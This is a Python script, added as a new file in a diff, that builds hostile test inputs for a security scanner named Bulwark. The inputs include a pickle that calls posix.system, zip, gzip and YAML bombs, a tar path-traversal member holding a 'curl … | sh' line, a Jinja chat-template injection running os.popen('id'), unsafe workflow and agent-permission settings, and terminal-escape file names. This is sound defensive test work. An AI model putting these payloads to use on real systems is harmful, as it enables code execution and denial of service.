@@ -1,0 +1,370 @@
+#!/usr/bin/env python3
+"""Writes Bulwark's hostile-input cases into a folder: one sub-folder per case plus cases.json.
+
+Every input is crafted here as bytes (nothing is loaded, unpickled or run). Each case names the
+bulwark command to run on it and what must hold: exit code, rules that must be reported (the
+payload behind the crafted part), rules that must not be, and text that must not appear on the
+terminal. scripts/hostile/run.py runs every case under a time limit and a memory cap.
+
+Usage: generate.py OUT_DIR [--quick]
+"""
+import gzip
+import io
+import json
+import os
+import struct
+import sys
+import tarfile
+import zipfile
+import zlib
+
+OUT = sys.argv[1] if len(sys.argv) > 1 else "/tmp/bulwark-hostile"
+QUICK = "--quick" in sys.argv
+CASES = []
+
+# A pickle that calls posix.system('true') when loaded: the payload every container case hides.
+EVIL_PICKLE = b"\x80\x02cposix\nsystem\nq\x00X\x04\x00\x00\x00trueq\x01\x85q\x02Rq\x03."
+# A plain-data pickle (a dict of ints): nothing to find.
+PLAIN_PICKLE = b"\x80\x02}q\x00(X\x01\x00\x00\x00aq\x01K\x01X\x01\x00\x00\x00bq\x02K\x02u."
+MODEL_RULES = ["pickle-dangerous-call", "pickle-dangerous-global", "pickle-unknown-global"]
+
+
+def case(name, files, args, *, exit_codes=(0, 1), must=(), must_any=(), must_not=(), jobs=None,
+         no_raw=(), about=""):
+    """files: {relative path: bytes | str | ("symlink", target) | ("fifo",)}.
+    args: bulwark arguments; the string CASE is replaced by the case folder."""
+    d = os.path.join(OUT, name)
+    os.makedirs(d, exist_ok=True)
+    for rel, content in files.items():
+        p = os.path.join(d, rel)
+        os.makedirs(os.path.dirname(p), exist_ok=True)
+        if isinstance(content, tuple) and content[0] == "symlink":
+            if os.path.lexists(p):
+                os.remove(p)
+            os.symlink(content[1], p)
+        elif isinstance(content, tuple) and content[0] == "fifo":
+            if not os.path.exists(p):
+                os.mkfifo(p)
+        elif isinstance(content, tuple) and content[0] == "gen":
+            with open(p, "wb") as f:
+                content[1](f)
+        else:
+            with open(p, "wb") as f:
+                f.write(content.encode() if isinstance(content, str) else content)
+    CASES.append({"name": name, "args": args, "exitCodes": list(exit_codes), "must": list(must),
+                  "mustAny": list(must_any), "mustNot": list(must_not), "jobs": jobs,
+                  "noRaw": list(no_raw), "about": about})
+
+
+# ---------------------------------------------------------------------------------------------
+# Zip: hand-built so sizes, offsets and flags can lie.
+
+def zip_bytes(members, *, cd_sizes=None, cd_offsets=None, method=0):
+    """members: [(name, data, compressed_or_None)]. cd_sizes/cd_offsets override the central
+    directory's uncompressed size / local header offset per member index."""
+    out = io.BytesIO()
+    cd = []
+    for i, (name, data, comp) in enumerate(members):
+        nm = name.encode()
+        m = method if comp is not None else 0
+        payload = comp if comp is not None else data
+        crc = zlib.crc32(data) & 0xFFFFFFFF
+        off = out.tell()
+        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, m, 0, 0, crc, len(payload), len(data), len(nm), 0))
+        out.write(nm)
+        out.write(payload)
+        usize = (cd_sizes or {}).get(i, len(data))
+        coff = (cd_offsets or {}).get(i, off)
+        cd.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, m, 0, 0, crc, len(payload), usize,
+                              len(nm), 0, 0, 0, 0, 0, coff) + nm)
+    start = out.tell()
+    for c in cd:
+        out.write(c)
+    size = out.tell() - start
+    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(cd), len(cd), size, start, 0))
+    return out.getvalue()
+
+
+def deflate(data):
+    c = zlib.compressobj(9, zlib.DEFLATED, -15)
+    return c.compress(data) + c.flush()
+
+
+def torch_zip(pickle_bytes, prefix="archive"):
+    return zip_bytes([(f"{prefix}/data.pkl", pickle_bytes, None), (f"{prefix}/version", b"3\n", None)])
+
+
+def bomb_member(size):
+    """Deflate of `size` zeros (~1000:1) and its CRC, built in pieces to stay small in memory."""
+    c = zlib.compressobj(9, zlib.DEFLATED, -15)
+    chunk = b"\0" * (1 << 20)
+    parts, crc = [], 0
+    for _ in range(size >> 20):
+        parts.append(c.compress(chunk))
+        crc = zlib.crc32(chunk, crc)
+    parts.append(c.flush())
+    return b"".join(parts), crc & 0xFFFFFFFF
+
+
+def nested_zip_bomb(levels, inner_size):
+    inner, crc = bomb_member(inner_size)
+    data = zip_fixed_sizes([("zeros.bin", inner, inner_size, crc)])
+    for lvl in range(levels):
+        members = [(f"level{lvl}_{i}.zip", data, len(data), zlib.crc32(data) & 0xFFFFFFFF) for i in range(4)]
+        data = zip_fixed_sizes([(n, deflate(d), s, crc) for n, d, s, crc in members])
+    return data
+
+
+def zip_fixed_sizes(members):
+    """members: [(name, deflated payload, uncompressed size, crc)] with method 8."""
+    out = io.BytesIO()
+    cd = []
+    for name, payload, usize, crc in members:
+        nm = name.encode()
+        off = out.tell()
+        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(payload), usize & 0xFFFFFFFF, len(nm), 0))
+        out.write(nm)
+        out.write(payload)
+        cd.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(payload), usize & 0xFFFFFFFF,
+                              len(nm), 0, 0, 0, 0, 0, off) + nm)
+    start = out.tell()
+    for c in cd:
+        out.write(c)
+    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(cd), len(cd), out.tell() - start, start, 0))
+    return out.getvalue()
+
+
+def zip_cases():
+    # A stored member whose central directory declares fewer bytes than its data, in front of the payload.
+    for declared in (0, 3):
+        z = zip_bytes([("archive/extra.pkl", b"0123456789abcdef", None), ("archive/data.pkl", EVIL_PICKLE, None)],
+                      cd_sizes={0: declared})
+        case(f"zip-stored-size-{declared}", {"model.pt": z}, ["scan", "CASE", "--only", "models"], must_any=MODEL_RULES,
+             about=f"stored member declares {declared} bytes for 16; the malicious data.pkl behind it must still be found")
+        case(f"zip-stored-size-{declared}-explain", {"model.pt": z}, ["explain-model", "CASE/model.pt"], exit_codes=(0, 1, 2),
+             about="explain-model on the same file: no crash")
+        case(f"zip-stored-size-{declared}-bom", {"model.pt": z}, ["bom", "CASE", "--format", "cyclonedx"], exit_codes=(0,),
+             about="bom on the same file: no crash")
+    # 300 central-directory entries pointing at one compressed stream.
+    payload = deflate(b"A" * (4 << 20))
+    one = zip_fixed_sizes([("m0.bin", payload, 4 << 20, zlib.crc32(b"A" * (4 << 20)) & 0xFFFFFFFF)])
+    cd_start = struct.unpack("<I", one[-6:-2])[0]
+    cd_entry = one[cd_start:-22]
+    entries = b"".join(cd_entry.replace(b"m0.bin", f"m{i:04d}"[:6].encode().ljust(6, b"_")) for i in range(300))
+    overlap = one[:cd_start] + entries + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 300, 300, len(entries), cd_start, 0)
+    case("zip-overlapping-members", {"model.pt": overlap}, ["scan", "CASE", "--only", "models"],
+         about="300 members share one compressed stream")
+    levels = 3 if QUICK else 5
+    nb = nested_zip_bomb(levels, 64 << 20)
+    case("zip-nested-bomb", {"weights.zip": nb}, ["scan", "CASE", "--only", "models"], about=f"{levels} levels of nested zips of zeros")
+    case("zip-nested-bomb-jobs8", {f"w{i}.zip": nb for i in range(4)}, ["scan", "CASE", "--only", "models", "--jobs", "8"],
+         jobs=8, about="four nested bombs scanned by 8 workers: the budget is per scan, not per worker")
+    size = (256 << 20) if QUICK else (1536 << 20)
+    big, crc = bomb_member(size)
+    z = zip_fixed_sizes([("archive/data.pkl", big, size, crc)])
+    case("zip-deflate-bomb", {"model.pt": z}, ["scan", "CASE", "--only", "models"], about=f"a {size >> 20} MiB deflate bomb as data.pkl")
+
+
+def gzip_cases():
+    member = gzip.compress(b"\0" * (64 << 20), 9)
+    n = 8 if QUICK else 32
+    case("gzip-multimember-bomb", {"model.pkl.gz": ("gen", lambda f: [f.write(member) for _ in range(n)])},
+         ["scan", "CASE", "--only", "models"], about=f"{n} gzip members of 64 MiB of zeros each")
+
+
+def tar_header(name, size_field, typeflag=b"0"):
+    h = bytearray(512)
+    h[0:len(name)] = name
+    h[100:108] = b"0000644\0"
+    h[108:116] = b"0000000\0"
+    h[116:124] = b"0000000\0"
+    h[124:136] = size_field
+    h[136:148] = b"00000000000\0"
+    h[156:157] = typeflag
+    h[257:263] = b"ustar\0"
+    h[263:265] = b"00"
+    h[148:156] = b"        "
+    chk = sum(h)
+    h[148:156] = b"%06o\0 " % chk
+    return bytes(h)
+
+
+def tar_cases():
+    # GNU base-256 size field with the sign bit set: a negative size.
+    neg = b"\xff" * 12
+    for flag, label in ((b"L", "gnu-longname"), (b"x", "pax")):
+        data = tar_header(b"././@LongLink", neg, flag) + b"\0" * 512 + tar_header(b"data.pkl", b"%011o\0" % len(EVIL_PICKLE)) \
+            + EVIL_PICKLE.ljust(512, b"\0") + b"\0" * 1024
+        case(f"tar-negative-size-{label}", {"model.tar": data}, ["scan", "CASE", "--only", "models"],
+             about=f"{label} header with a negative size")
+        case(f"tar-negative-size-{label}-bom", {"model.tar": data}, ["bom", "CASE", "--format", "cyclonedx"], exit_codes=(0,),
+             about="bom on the same file")
+        case(f"tar-negative-size-{label}-audit", {"model.tar": data}, ["audit", "CASE"], exit_codes=(0, 1),
+             about="audit on the same file")
+    # A traversal member, then a trailing header whose size is garbage: tarfile still returns the first.
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w") as t:
+        info = tarfile.TarInfo("../../home/user/.bashrc")
+        body = b"curl https://example.invalid | sh\n"
+        info.size = len(body)
+        t.addfile(info, io.BytesIO(body))
+    raw = buf.getvalue().rstrip(b"\0")
+    raw = raw + b"\0" * (-len(raw) % 512)
+    raw += tar_header(b"trailer", b"zzzzzzzzzzz\0") + b"\0" * 1024
+    case("tar-bad-trailing-header", {"bundle.tar": raw}, ["scan", "CASE", "--only", "models"],
+         must=["archive-path-traversal"],
+         about="traversal member before a trailing header with a bad size")
+
+
+def yaml_bomb(levels=9):
+    lines = ["a0: &a0 [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]"]
+    for i in range(1, levels + 1):
+        lines.append(f"a{i}: &a{i} [" + ",".join([f"*a{i-1}"] * 9) + "]")
+    return "\n".join(lines) + "\n"
+
+
+def yaml_cases():
+    bomb = yaml_bomb()
+    case("yaml-bomb-front-matter-bom", {"README.md": "---\n" + bomb + "---\n# model\n", "model.safetensors": b"\x08\0\0\0\0\0\0\0{}      "},
+         ["bom", "CASE", "--format", "cyclonedx"], exit_codes=(0,), about="billion laughs in README front matter")
+    case("yaml-bomb-config", {".bulwark.yml": "version: 1\n" + bomb, "app.py": "print(1)\n"}, ["scan", "CASE"], exit_codes=(2,),
+         about="billion laughs in .bulwark.yml: a one-line error")
+    case("yaml-alias-keys-config", {".bulwark.yml": "version: 1\nx: &k {a: 1}\n? *k\n: 2\n", "app.py": "print(1)\n"}, ["scan", "CASE"],
+         exit_codes=(2,), about="alias used as a mapping key in .bulwark.yml")
+    case("yaml-bomb-workflow", {".github/workflows/x.yml": "on: push\n" + bomb + "jobs: {}\n"}, ["scan", "CASE", "--only", "workflows"],
+         about="billion laughs in a workflow")
+
+
+PWN_WORKFLOW = """name: pr
+on: pull_request_target
+# pad
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
+        with:
+          ref: ${{ github.event.pull_request.head.sha }}
+      - run: |
+          npm ci
+          npm test
+"""
+PWN_RULE = "workflow-untrusted-checkout"
+
+
+def workflow_cases():
+    case("workflow-control", {".github/workflows/pr.yml": PWN_WORKFLOW}, ["scan", "CASE", "--only", "workflows"], must=[PWN_RULE],
+         about="control: a pull_request_target checkout-and-run")
+    deep = PWN_WORKFLOW.replace("# pad\n", "#" + " " * 401 + "indented comment\n")
+    case("workflow-401-indent", {".github/workflows/pr.yml": deep}, ["scan", "CASE", "--only", "workflows"], must=[PWN_RULE],
+         about="one comment line indented 401 spaces")
+    braces = PWN_WORKFLOW.replace("npm test\n", "npm test\n          echo '" + "{" * 65 + "'\n")
+    case("workflow-65-braces", {".github/workflows/pr.yml": braces}, ["scan", "CASE", "--only", "workflows"], must=[PWN_RULE],
+         about="a script holding 65 `{`")
+
+
+def agent_cases():
+    settings = {"permissions": {"defaultMode": "bypassPermissions", "allow": ["Bash(*)"]}}
+    case("agent-settings-control", {".claude/settings.json": json.dumps(settings)}, ["scan", "CASE", "--only", "agents"],
+         must_any=["agent-permission-bypass", "agent-unrestricted-shell"], about="control")
+    nested = dict(settings)
+    x = {}
+    cur = x
+    for _ in range(64):
+        cur["n"] = {}
+        cur = cur["n"]
+    nested["unused"] = x
+    case("agent-settings-deep", {".claude/settings.json": json.dumps(nested)}, ["scan", "CASE", "--only", "agents"],
+         must_any=["agent-permission-bypass", "agent-unrestricted-shell"], about="an unused key nested 65 deep")
+    big = dict(settings)
+    big["unusedList"] = list(range(500_001))
+    case("agent-settings-big-array", {".claude/settings.json": json.dumps(big)}, ["scan", "CASE", "--only", "agents"],
+         must_any=["agent-permission-bypass", "agent-unrestricted-shell"], about="an array of 500,001 values")
+
+
+def secrets_cases():
+    n = 1 << 20
+    case("secrets-private-key-line", {"blob.txt": ("-----BEGIN PRIVATE KEY-----" * (n // 27))}, ["scan", "CASE", "--only", "secrets"],
+         about="1 MB line of repeated BEGIN PRIVATE KEY")
+    case("secrets-jwt-prefix-line", {"blob.txt": ("eyJhbGci." * (n // 9))}, ["scan", "CASE", "--only", "secrets"],
+         about="1 MB line of eyJhbGci.")
+    vec = ",".join('{"key":"%064x","iv":"%032x","ct":"%0128x"}' % (i, i, i) for i in range(n // 260))
+    case("secrets-minified-vectors", {"vectors.json": "[" + vec + "]"}, ["scan", "CASE", "--only", "secrets"],
+         about="1 MB of minified crypto test vectors")
+    key = "AKIAQYLPMN5HFIQR7XAM"
+    secret = "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"
+    env = f"aws_access_key_id={key}\naws_secret_access_key={secret}\n"
+    case("secrets-env-control", {".env": env}, ["scan", "CASE", "--only", "secrets"], must=["secret-aws-secret-access-key"],
+         about="control")
+    case("secrets-env-nul-first", {".env": "\0" + env}, ["scan", "CASE", "--only", "secrets"],
+         must=["secret-aws-secret-access-key"], about=".env whose first byte is NUL")
+    case("secrets-utf16le", {"config.txt": b"\xff\xfe" + env.encode("utf-16-le")}, ["scan", "CASE", "--only", "secrets"],
+         must=["secret-aws-secret-access-key"], about="UTF-16LE file with a BOM")
+
+
+def model_format_cases():
+    # Chat template whose payload starts after the first MiB.
+    evil = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
+    tpl = " " * ((1 << 20) + 100) + evil
+    case("chat-template-control", {"tokenizer_config.json": json.dumps({"chat_template": evil})}, ["scan", "CASE", "--only", "models"],
+         must=["gguf-chat-template-injection"], about="control")
+    case("chat-template-past-1mib", {"tokenizer_config.json": json.dumps({"chat_template": tpl})}, ["scan", "CASE", "--only", "models"],
+         must=["gguf-chat-template-injection"],
+         about="tokenizer_config.json template whose payload starts after 1 MiB")
+    # .npy object array with a header over 1 MiB.
+    hdr = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
+    hdr = hdr + " " * ((1 << 20) + 10 - len(hdr)) + "\n"
+    npy = b"\x93NUMPY\x02\x00" + struct.pack("<I", len(hdr)) + hdr.encode() + EVIL_PICKLE
+    case("npy-header-over-1mib", {"arr.npy": npy}, ["scan", "CASE", "--only", "models"], must_any=MODEL_RULES + ["numpy-object-array"],
+         about=".npy object array with a header over 1 MiB")
+
+
+def walker_cases():
+    case("fifo-in-tree", {"pipe.pkl": ("fifo",), "ok.txt": "x"}, ["scan", "CASE"], about="a FIFO among the files")
+    case("fifo-explain-model", {"pipe.pkl": ("fifo",)}, ["explain-model", "CASE/pipe.pkl"], exit_codes=(2,),
+         about="explain-model of a FIFO: a one-line error, no block")
+    case("nested-dot-git-folder", {"pkg/.git/model.pkl": torch_zip(EVIL_PICKLE)}, ["scan", "CASE", "--only", "models"], must_any=MODEL_RULES,
+         about="a folder named .git that is not a git directory")
+    name = "evil\x1b]0;pwned\x07\x1b[2J\u202egp.pkl"
+    case("terminal-escape-names", {name: EVIL_PICKLE}, ["scan", "CASE", "--only", "models"], must_any=MODEL_RULES,
+         no_raw=["\x1b]0;", "\x07", "\u202e", "\x1b[2J"], about="a file name with OSC, CSI and U+202E")
+
+
+def bounds_cases():
+    os.makedirs(os.path.join(OUT, "_outside"), exist_ok=True)
+    with open(os.path.join(OUT, "_outside", "extra.txt"), "w") as f:
+        f.write("leakedpackage==6.6.6\n")
+    case("bom-include-symlink-out", {"requirements.txt": "-r extra.txt\nrequests==2.32.3\n",
+                                     "extra.txt": ("symlink", os.path.join(OUT, "_outside", "extra.txt"))},
+         ["bom", "CASE", "--format", "cyclonedx"], exit_codes=(0,), must_not=["leakedpackage"],
+         about="-r include that is a symlink to a file outside the root")
+    with open(os.path.join(OUT, "_outside", "config.yml"), "w") as f:
+        f.write("version: 1\nfail-on: none\n")
+    case("config-symlink-out", {".bulwark.yml": ("symlink", os.path.join(OUT, "_outside", "config.yml")),
+                                "model.pkl": EVIL_PICKLE}, ["scan", "CASE", "--only", "models"], exit_codes=(1, 2),
+         about=".bulwark.yml as a symlink out of the root must not be read (fail-on: none would hide the finding)")
+
+
+def cli_cases():
+    case("affected-bad-range", {"x": ""}, ["affected", "pkg:pypi/colourama", "--range", "=>0.1"], exit_codes=(2,), about="unparseable range")
+    case("runbook-unknown-vendor", {"x": ""}, ["runbook", "--breached", "vercell"], exit_codes=(2,), about="unknown vendor")
+    case("rotate-plan-unknown-vendor", {"x": ""}, ["saas", "rotate-plan", "CASE", "--breached", "vercell"], exit_codes=(2,),
+         about="unknown vendor")
+    case("audit-min-score-out-of-range", {"x": ""}, ["audit", "CASE", "--min-score", "150"], exit_codes=(2,), about="--min-score 150")
+    case("bom-of-a-file", {"README.md": "# x\n"}, ["bom", "CASE/README.md"], exit_codes=(2,), about="bom README.md")
+    case("output-missing-folder", {"a.txt": "x"}, ["scan", "CASE", "--output", "/nonexistent/dir/x.json", "--format", "json"],
+         exit_codes=(2,), about="--output into a folder that does not exist")
+
+
+def main():
+    os.makedirs(OUT, exist_ok=True)
+    for gen in (zip_cases, gzip_cases, tar_cases, yaml_cases, workflow_cases, agent_cases, secrets_cases, model_format_cases,
+                walker_cases, bounds_cases, cli_cases):
+        gen()
+    with open(os.path.join(OUT, "cases.json"), "w") as f:
+        json.dump(CASES, f, indent=1)
+    print(f"{len(CASES)} cases in {OUT}")
+
+
+if __name__ == "__main__":
+    main()
